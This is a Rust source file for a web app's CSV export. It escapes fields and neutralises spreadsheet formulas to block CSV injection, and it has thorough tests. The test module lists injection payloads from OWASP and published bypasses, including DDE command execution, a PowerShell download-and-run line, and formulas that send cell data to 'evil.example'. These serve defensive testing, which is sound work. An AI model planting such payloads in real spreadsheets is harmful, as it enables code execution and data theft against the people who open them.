//! What a list shows, as a file for a spreadsheet.

use js_sys::Array;
use leptos::prelude::document;
use wasm_bindgen::{JsCast, JsValue};
use web_sys::{Blob, BlobPropertyBag, HtmlElement, Url};

/// What stands in a cell of the file.
pub(super) enum Field {
    /// A text, whatever is written in it: it is neither run, nor taken for a number or a day.
    Text(String),
    /// A number or a day in digits.
    Value(String),
}

/// Hands a table to the customer as `name.csv`.
///
/// # Errors
/// Where the browser lets the page make no files.
pub(super) fn download(name: &str, rows: &[Vec<Field>], separator: char) -> Result<(), JsValue> {
    let kind = BlobPropertyBag::new();
    kind.set_type("text/csv;charset=utf-8");
    let file = Blob::new_with_str_sequence_and_options(&Array::of1(&csv(rows, separator).into()), &kind)?;
    let address = Url::create_object_url_with_blob(&file)?;
    let link: HtmlElement = document().create_element("a")?.unchecked_into();
    link.set_attribute("href", &address)?;
    link.set_attribute("download", &format!("{name}.csv"))?;
    link.click();
    Url::revoke_object_url(&address)
}

/// RFC 4180, but for the separator, which is what the reader's spreadsheet expects, with the byte-order mark by which Excel knows
/// UTF-8.
fn csv(rows: &[Vec<Field>], separator: char) -> String {
    let mut text = String::from("\u{feff}");
    for row in rows {
        let fields: Vec<_> = row
            .iter()
            .map(|field| match field {
                Field::Text(text) => quoted(text),
                Field::Value(value) => value.clone(),
            })
            .collect();
        text += &fields.join(separator.encode_utf8(&mut [0; 4]));
        text += "\r\n";
    }
    text
}

/// A field that a spreadsheet takes for nothing but text: a formula could run when the file is opened, and what people write in the
/// CRM ends up here.
fn quoted(field: &str) -> String {
    let mut field = without_formulas(field);
    if is_like_number(&field) {
        field.insert(0, '\t');
    }
    if field.contains([',', '"', '\'', ';', '\t', '\n', '\r']) {
        format!("\"{}\"", field.replace('"', "\"\""))
    } else {
        field
    }
}

/// Whether a spreadsheet could make a number, a day or a time of a text, and so lose the zeros of `000123`, or turn `1-2` into the
/// first of February and `DEC-05` into the fifth of December. A tab before it, which is not seen, keeps it a text; an apostrophe would
/// be seen.
fn is_like_number(text: &str) -> bool {
    let is_between = |c: char| c.is_whitespace() || "+-\u{2212}.,/:%'\u{2019}".contains(c);
    let mut words = text
        .split(|c: char| is_between(c) || c.is_ascii_digit())
        .filter(|word| !word.is_empty());
    text.contains(|c: char| c.is_ascii_digit())
        && !text.starts_with('\'')
        && words.all(|word| word.eq_ignore_ascii_case("e") || is_month(word))
}

/// Months in English, which spreadsheets know everywhere, and in other languages that computers are mostly set to.
const MONTHS: &str = "january february march april may june july august september october november december januar februar märz mai juni \
    juli oktober dezember janvier février mars avril juin juillet août septembre octobre novembre décembre enero febrero marzo abril mayo \
    junio julio agosto septiembre octubre noviembre diciembre gennaio febbraio aprile maggio giugno luglio settembre ottobre dicembre \
    januari februari maart mei juni juli augustus janeiro fevereiro março maio junho julho setembro outubro novembro dezembro";

/// Whether a word is the name of a month, or at least three letters of its beginning. Only ASCII is compared without regard to case:
/// the tables for all other letters are 7 kB that every list would load.
fn is_month(word: &str) -> bool {
    let begins = |month: &str| {
        month
            .get(..word.len())
            .is_some_and(|part| part.eq_ignore_ascii_case(word))
    };
    word.chars().count() >= 3 && MONTHS.split(' ').any(begins)
}

/// A text with an apostrophe before whatever a spreadsheet could take for a formula, as OWASP advises. Where the computer's list
/// separator is another than the comma, spreadsheets begin a new cell behind each of those in the middle of a text.
fn without_formulas(text: &str) -> String {
    let begins_with_break = text.starts_with(['\t', '\r', '\n']);
    let mut safe = String::from(if begins_with_break { "'" } else { "" });
    for cell in text.split_inclusive([';', '\t', '\r', '\n']) {
        if is_formula(cell) {
            safe.push('\'');
        }
        safe.push_str(cell);
    }
    safe
}

/// Whether a spreadsheet could take a cell for a formula, once it has left out what it leaves out before one. A number is none.
fn is_formula(cell: &str) -> bool {
    const INVISIBLE: [char; 5] = ['\u{200b}', '\u{200e}', '\u{200f}', '\u{2060}', '\u{feff}'];
    let is_passed = |c: char| c.is_whitespace() || c.is_control() || c == '"' || INVISIBLE.contains(&c);
    let cell = cell.trim_start_matches(is_passed);
    let is_negative_number = cell.strip_prefix('-').is_some_and(|number| {
        let is_of_number =
            |c: char| c.is_ascii_digit() || c.is_whitespace() || matches!(c, '.' | ',' | ';' | '\u{2019}');
        number.starts_with(|c: char| c.is_ascii_digit()) && number.chars().all(is_of_number)
    });
    cell.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) && !is_negative_number
}

#[cfg(test)]
mod tests {
    use super::{Field, csv, without_formulas};

    fn row(fields: &[&str]) -> Vec<Field> {
        fields.iter().map(|field| Field::Text((*field).to_owned())).collect()
    }

    fn csv_of(rows: &[Vec<Field>]) -> String {
        csv(rows, ',')
    }

    #[test]
    fn fields_are_quoted_where_they_have_to_be() {
        let text = csv_of(&[
            row(&["Invoice", "Total"]),
            row(&["INV-1", "€1,000.00"]),
            row(&["a \"b\"\nc", ""]),
        ]);
        assert_eq!(
            text,
            "\u{feff}Invoice,Total\r\nINV-1,\"€1,000.00\"\r\n\"a \"\"b\"\"\nc\",\r\n"
        );
    }

    #[test]
    fn what_begins_like_a_formula_is_only_text() {
        let text = csv_of(&[row(&["=HYPERLINK(\"x\")", "@x", "+1", "−5.00"])]);
        assert_eq!(
            text,
            "\u{feff}\"'=HYPERLINK(\"\"x\"\")\",\"'@x\",\"'+1\",\"\t−5.00\"\r\n"
        );
    }

    #[test]
    fn what_only_looks_like_a_number_or_a_day_stays_a_text() {
        for text in [
            "000123",
            "1-2",
            "2026/04",
            "12:30",
            "1E5",
            "0049 341",
            "5%",
            "−5.00",
            "DEC-05",
            "5 März",
            "1. June 2026",
            "MAY2026",
        ] {
            assert_eq!(csv_of(&[row(&[text])]), format!("\u{feff}\"\t{text}\"\r\n"));
        }
        for text in [
            "INV-000123",
            "A4",
            "",
            "e",
            "v1.2",
            "May",
            "Fix 5",
            "Web shop 4",
            "Maintenance 2026",
            "Marketing 5",
            "Ma 5",
        ] {
            assert_eq!(csv_of(&[row(&[text])]), format!("\u{feff}{text}\r\n"));
        }
    }

    #[test]
    fn numbers_and_days_are_plain_and_separated_as_the_reader_writes_decimals() {
        let row = |total: &str| {
            let fields = ["2026-03-01", total].map(|value| Field::Value(value.to_owned()));
            let currency = Field::Text("EUR".to_owned());
            fields.into_iter().chain([currency]).collect()
        };
        assert_eq!(csv(&[row("-1234,50")], ';'), "\u{feff}2026-03-01;-1234,50;EUR\r\n");
        assert_eq!(csv(&[row("1234.50")], ','), "\u{feff}2026-03-01,1234.50,EUR\r\n");
    }

    #[test]
    fn numbers_stay_numbers() {
        for number in [
            "-5",
            "-5.00",
            "-1,234.50",
            "-1 234,50",
            "-1’234.50",
            "0",
            "5.5",
            "−5.00",
        ] {
            assert_eq!(without_formulas(number), number);
        }
    }

    #[test]
    fn words_stay_as_they_are() {
        for text in [
            "a-b",
            "a = b",
            "1+1",
            "me@acme.example",
            "a; b",
            "a;b",
            "Keller & Sons",
            "'quoted'",
            "5 - 3",
            "a\r\nb",
            "–",
            "",
        ] {
            assert_eq!(without_formulas(text), text);
        }
    }

    /// From OWASP's page on CSV injection, and from what was published to get around its advice.
    const FORMULAS: [&str; 40] = [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "-2+3+cmd|' /C calc'!A0",
        "=cmd|' /C calc'!A0",
        "=cmd|'/C powershell IEX(wget evil.example/x)'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=DDE(\"cmd\",\"/C calc\",\"x\")",
        "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Error\")",
        "=IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")",
        "=IMAGE(\"https://evil.example/\"&A1)",
        "=WEBSERVICE(\"https://evil.example/\"&A1)",
        "=IMPORTDATA(\"https://evil.example\")",
        "='file:///etc/passwd'#$passwd.A1",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(1+1)",
        "-",
        "--1",
        "-(1)",
        "- 5",
        "-A1",
        "+49 341 5550",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u{a0}=1+1",
        "\u{3000}=1+1",
        "\0=1+1",
        "\u{feff}=1+1",
        "\u{200b}=1+1",
        "\"=1+1\"",
        "a\n=1+1",
        "a\r\n  @SUM(1)",
        "x;=cmd|' /C calc'!A0;y",
        "x\t=1+1;\"-1+1;\" ;+1",
    ];

    #[test]
    fn no_cell_is_a_formula_whatever_separates_the_cells() {
        for formula in FORMULAS {
            let line = csv_of(&[row(&["INV-1", formula, formula])]);
            for separator in [',', ';', '\t'] {
                for cell in cells(&line, separator) {
                    let first = cell
                        .chars()
                        .find(|c| c.is_alphanumeric() || "'=+-@＝＋－＠".contains(*c));
                    let is_safe = first.is_none_or(|c| c.is_alphanumeric() || c == '\'');
                    assert!(is_safe, "{formula:?} makes the cell {cell:?} by {separator:?}");
                }
            }
            assert_eq!(cells(&line, ',').len(), 3, "{formula:?} makes more cells than one");
        }
    }

    /// The cells of a file, as a spreadsheet with that separator reads them: what begins with a quotation mark goes on to the
    /// next that is not doubled, and whatever follows that up to the separator belongs to the cell.
    fn cells(file: &str, separator: char) -> Vec<String> {
        let mut characters = file.trim_start_matches('\u{feff}').trim_end().chars().peekable();
        let mut cells = vec![String::new()];
        let (mut begins, mut is_quoted) = (true, false);
        while let Some(character) = characters.next() {
            let cell = cells.last_mut().unwrap();
            match character {
                '"' if is_quoted && characters.next_if_eq(&'"').is_some() => cell.push('"'),
                '"' if is_quoted || begins => is_quoted = !is_quoted,
                other if !is_quoted && (other == separator || matches!(other, '\r' | '\n')) => {
                    cells.push(String::new());
                    begins = true;
                    continue;
                }
                other => cell.push(other),
            }
            begins = false;
        }
        cells
    }
}
